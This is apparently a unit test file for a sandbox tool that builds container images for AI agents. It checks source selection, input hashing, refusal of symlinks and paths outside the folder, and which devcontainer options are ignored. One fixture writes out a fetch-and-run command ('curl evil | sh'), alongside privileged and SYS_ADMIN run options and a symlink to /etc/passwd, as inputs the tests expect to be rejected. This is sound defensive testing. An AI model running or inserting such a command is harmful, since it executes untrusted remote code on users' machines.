import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { buildStep } from '../../../src/core/image/buildProcess';
import { describeDevcontainerBuild, ignoredDevcontainerOptions, lifecycleCommands } from '../../../src/core/image/devcontainerOptions';
import { builtImageTag, devcontainerInputs, dockerfileInputs, imageInputHash } from '../../../src/core/image/imageInputs';
import { findFolderImageSource, sourceFile } from '../../../src/core/image/imageSource';
import { SandboxError } from '../../../src/core/errors';
import { makeTempDir, writeTree } from '../../builders/trees';

async function tempFolder(files: Record<string, string> = {}): Promise<string> {
  const folder = await makeTempDir('image-unit');
  await writeTree(folder, files);
  return folder;
}

suite("unit: image auto chooses the folder's source", () => {
  const made: string[] = [];
  const folderWith = async (files: Record<string, string>) => {
    const folder = await tempFolder(files);
    made.push(folder);
    return folder;
  };
  suiteTeardown(() => made.forEach((f) => fs.rmSync(f, { recursive: true, force: true })));

  test('.devcontainer/devcontainer.json, then .devcontainer.json, then .agent-sandbox/Dockerfile, else the default', async () => {
    const all = { '.devcontainer/devcontainer.json': '{}', '.devcontainer.json': '{}', '.agent-sandbox/Dockerfile': 'FROM x' };
    const folder = await folderWith(all);
    const choose = () => {
      const source = findFolderImageSource(folder);
      return { kind: source.kind, file: sourceFile(folder, source) };
    };
    assert.deepEqual(choose(), { kind: 'devcontainer', file: '.devcontainer/devcontainer.json' });
    fs.rmSync(path.join(folder, '.devcontainer'), { recursive: true });
    assert.deepEqual(choose(), { kind: 'devcontainer', file: '.devcontainer.json' });
    fs.rmSync(path.join(folder, '.devcontainer.json'));
    assert.deepEqual(choose(), { kind: 'dockerfile', file: '.agent-sandbox/Dockerfile' });
    fs.rmSync(path.join(folder, '.agent-sandbox'), { recursive: true });
    assert.deepEqual(choose(), { kind: 'default', file: undefined });
  });

  test('a symbolic link (to the file or a folder on its way) does not count: it could point the build outside the folder', async () => {
    const outside = await folderWith({ 'devcontainer.json': '{}', Dockerfile: 'FROM x' });
    const folder = await folderWith({});
    fs.symlinkSync(path.join(outside, 'devcontainer.json'), path.join(folder, '.devcontainer.json'));
    fs.symlinkSync(outside, path.join(folder, '.agent-sandbox'));
    assert.equal(findFolderImageSource(folder).kind, 'default');
    // Control: the same files as real entries are chosen.
    fs.rmSync(path.join(folder, '.devcontainer.json'));
    fs.copyFileSync(path.join(outside, 'devcontainer.json'), path.join(folder, '.devcontainer.json'));
    assert.equal(findFolderImageSource(folder).kind, 'devcontainer');
  });

  test('a directory named like the file is not a source', async () => {
    const folder = await folderWith({ '.devcontainer.json/x': '' });
    assert.equal(findFolderImageSource(folder).kind, 'default');
  });
});

suite('unit: the input hash of a built image', () => {
  const made: string[] = [];
  suiteTeardown(() => made.forEach((f) => fs.rmSync(f, { recursive: true, force: true })));
  const project = async () => {
    const folder = await tempFolder({
      '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile"},"features":{"./feat":{}}}',
      '.devcontainer/Dockerfile': 'FROM base\nCOPY . /src\n',
      '.devcontainer/context-file.txt': 'one',
      '.devcontainer/feat/install.sh': '#!/bin/sh\n',
      '.devcontainer/feat/devcontainer-feature.json': '{"id":"feat"}',
      'src/app.js': 'console.log(1)',
    });
    made.push(folder);
    const configuration = { build: { dockerfile: 'Dockerfile' }, features: { './feat': {}, 'ghcr.io/x/y:1': {} } };
    const hash = () =>
      imageInputHash(
        folder,
        devcontainerInputs(folder, { configFile: path.join(folder, '.devcontainer/devcontainer.json'), configuration }, 'cli 1'),
      );
    return { folder, hash, configuration };
  };

  test('the same inputs give the same hash, also in another folder; files outside the inputs do not count', async () => {
    const a = await project();
    const b = await project();
    assert.match(a.hash(), /^[0-9a-f]{64}$/);
    assert.equal(a.hash(), b.hash());
    fs.writeFileSync(path.join(a.folder, 'src/app.js'), 'changed');
    fs.mkdirSync(path.join(a.folder, '.devcontainer/.git'));
    fs.writeFileSync(path.join(a.folder, '.devcontainer/.git/HEAD'), 'ref');
    assert.equal(a.hash(), b.hash());
  });

  test('each input changes it: the config, the Dockerfile, a context file, a local feature, an executable bit, a link, the builder', async () => {
    const { folder, hash, configuration } = await project();
    const seen = new Set([hash()]);
    const changed = (what: string) => {
      const now = hash();
      assert.ok(!seen.has(now), `${what} must change the hash`);
      seen.add(now);
    };
    fs.appendFileSync(path.join(folder, '.devcontainer/devcontainer.json'), ' ');
    changed('the config');
    fs.appendFileSync(path.join(folder, '.devcontainer/Dockerfile'), 'RUN true\n');
    changed('the Dockerfile');
    fs.writeFileSync(path.join(folder, '.devcontainer/context-file.txt'), 'two');
    changed('a build context file');
    fs.appendFileSync(path.join(folder, '.devcontainer/feat/install.sh'), 'echo\n');
    changed('a local feature');
    fs.chmodSync(path.join(folder, '.devcontainer/feat/install.sh'), 0o755);
    changed('an executable bit');
    fs.symlinkSync('/etc/passwd', path.join(folder, '.devcontainer/link'));
    changed('a symbolic link (by its target text, never followed)');
    const other = imageInputHash(
      folder,
      devcontainerInputs(folder, { configFile: path.join(folder, '.devcontainer/devcontainer.json'), configuration }, 'cli 2'),
    );
    assert.ok(!seen.has(other), 'another CLI version is another build');
  });

  test('inputs outside the folder are refused with the fix', async () => {
    const folder = await tempFolder({ '.devcontainer/devcontainer.json': '{}' });
    made.push(folder);
    const configFile = path.join(folder, '.devcontainer/devcontainer.json');
    for (const configuration of [{ build: { dockerfile: 'Dockerfile', context: '../..' } }, { features: { '../../elsewhere': {} } }]) {
      assert.throws(
        () => devcontainerInputs(folder, { configFile, configuration }, 'cli'),
        (error: unknown) => SandboxError.is(error, 'image-build-failed') && /outside the workspace folder/.test(error.message),
      );
    }
    // Control: `..` from .devcontainer is the folder itself, which is allowed.
    assert.doesNotThrow(() =>
      devcontainerInputs(folder, { configFile, configuration: { build: { dockerfile: 'Dockerfile', context: '..' } } }, 'cli'),
    );
  });

  test('.agent-sandbox/Dockerfile hashes its folder; the kind is part of the hash and of the tag', async () => {
    const folder = await tempFolder({ '.agent-sandbox/Dockerfile': 'FROM x\n', '.agent-sandbox/extra.txt': 'a' });
    made.push(folder);
    const inputs = dockerfileInputs(folder, path.join(folder, '.agent-sandbox/Dockerfile'), 'docker build');
    const hash = imageInputHash(folder, inputs);
    assert.notEqual(hash, imageInputHash(folder, { ...inputs, kind: 'devcontainer' }));
    fs.writeFileSync(path.join(folder, '.agent-sandbox/extra.txt'), 'b');
    assert.notEqual(imageInputHash(folder, inputs), hash);
    assert.equal(builtImageTag('dockerfile', hash), `agent-sandbox-built:dockerfile-${hash.slice(0, 32)}`);
  });
});

suite('unit: devcontainer options the box does not honour', () => {
  test('run options, environment, users, ports and lifecycle commands are listed; what builds the image is not', async () => {
    const configuration = {
      name: 'x',
      image: 'node',
      features: {},
      runArgs: ['--privileged'],
      mounts: [],
      capAdd: ['SYS_ADMIN'],
      privileged: true,
      containerEnv: {},
      remoteUser: 'root',
      forwardPorts: [3000],
      postCreateCommand: 'npm ci',
      initializeCommand: 'curl evil | sh',
      customizations: {},
      configFilePath: {},
    };
    assert.deepEqual(ignoredDevcontainerOptions(configuration), [
      'runArgs',
      'mounts',
      'capAdd',
      'privileged',
      'containerEnv',
      'remoteUser',
      'forwardPorts',
      'postCreateCommand',
      'initializeCommand',
      'customizations',
    ]);
    assert.deepEqual(
      lifecycleCommands(configuration).map((c) => c.name),
      ['initializeCommand', 'postCreateCommand'],
    );
  });

  test('what is built, in words', async () => {
    const folder = '/repo';
    const configFile = '/repo/.devcontainer/devcontainer.json';
    assert.equal(describeDevcontainerBuild(folder, { configFile, configuration: { image: 'node:22' } }), 'the image node:22');
    assert.equal(
      describeDevcontainerBuild(folder, {
        configFile,
        configuration: { build: { dockerfile: 'Dockerfile', context: '..' }, features: { './a': {}, 'ghcr.io/b:1': {} } },
      }),
      'the Dockerfile .devcontainer/Dockerfile (build context .) with the features ./a, ghcr.io/b:1',
    );
  });

  test('build steps become progress (classic builder and BuildKit)', async () => {
    assert.deepEqual(buildStep('Step 3/12 : RUN make'), { done: 3, total: 12 });
    assert.deepEqual(buildStep('#7 [2/5] RUN make'), { done: 2, total: 5 });
    assert.deepEqual(buildStep('#7 [stage-1 2/5] COPY . .'), { done: 2, total: 5 });
    assert.equal(buildStep('Sending build context to Docker daemon'), undefined);
    assert.equal(buildStep('Step 9/3 : nonsense'), undefined);
  });
});
